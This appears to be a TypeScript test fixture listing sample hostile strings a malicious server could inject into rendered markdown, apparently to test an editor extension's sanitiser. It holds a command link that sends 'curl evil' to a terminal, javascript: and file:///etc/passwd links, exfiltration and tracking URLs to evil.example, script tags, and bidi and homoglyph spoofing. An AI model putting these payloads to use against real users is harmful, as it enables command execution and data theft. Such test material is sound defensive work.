/** One sample of every payload class a hostile server puts into a string it controls. */
export const PAYLOADS: Record<string, string> = {
  commandLink: 'Fix it: [Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%5Cn%22%7D)',
  commandLinkTitled: '[Open](command:workbench.action.terminal.new "Open a terminal")',
  javascriptLink: '[click](javascript:alert(1))',
  fileLink: '[notes](file:///etc/passwd)',
  httpsLink: '[docs](https://evil.example/steal?d=1)',
  image: '![pixel](https://evil.example/pixel.png)',
  referenceImage: '![pixel][p]\n\n[p]: https://evil.example/ref.png',
  html: '<img src="https://evil.example/html.png"><a href="https://evil.example/a">a</a><script>alert(1)</script>',
  autolink: 'see <https://evil.example/autolink>',
  bareUrl: 'see https://evil.example/bare and www.evil.example/www and ops@evil.example',
  codicon: '$(alert) $(terminal) important',
  entity: '&lt;img src=x&gt; &#x200B;',
  zeroWidth: 'delete_all\u200B',
  zeroWidthJoiner: 'run\u200Dcmd',
  bidi: 'safe\u202Etxt.exe',
  cyrillic: 'read_f\u0456le',
  fullwidth: 'ｒｕｎ',
  newlines: 'first line\nsecond line\r\n```\n![x](https://evil.example/fence.png)',
};

export const HUGE = 'A'.repeat(1_000_000);
